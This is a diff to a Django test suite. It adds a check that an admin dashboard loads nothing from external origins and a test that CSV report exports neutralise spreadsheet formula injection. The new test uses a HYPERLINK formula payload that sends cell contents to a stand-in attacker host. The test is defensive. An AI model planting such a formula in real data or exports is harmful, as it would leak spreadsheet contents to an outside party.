@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import re
 
 import pytest
 from django.db import connection
@@ -213,6 +214,22 @@ def test_the_admin_dashboard_shows_the_figures_and_charts(history: dict, admin_c
     assert page.status_code == 200
     html = page.content.decode()
     assert "platform-b" in html and "<svg" in html and "Removals reported" in html
-    assert "cdn" not in html.lower()
+    # Nothing loaded from elsewhere (a CDN): every script, style and image is this origin's.
+    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", html), "an external resource"
     assert "Dashboard" in admin_client.get("/admin/").content.decode()
     assert Client().get("/admin/dashboard/").status_code == 302  # admins only
+
+
+def test_a_member_written_value_cannot_become_a_spreadsheet_formula_in_csv(
+    history: dict, auditor: Caller, platform_b: Caller
+) -> None:
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
+    response = platform_b.client.post(
+        "/api/v1/enrollments", {"program": "take-it-down", "state": "paused", "reason": formula}, format="json"
+    )
+    assert response.status_code in (200, 201), response.json()
+    text = auditor.client.get("/api/v1/reports/programs/take-it-down?format=csv").content.decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    b = next(row for row in rows if row["member"] == "platform-b")
+    assert b["enrollment_reason"] != formula and b["enrollment_reason"].endswith(formula[1:])
+    assert not b["enrollment_reason"].startswith(("=", "+", "-", "@"))
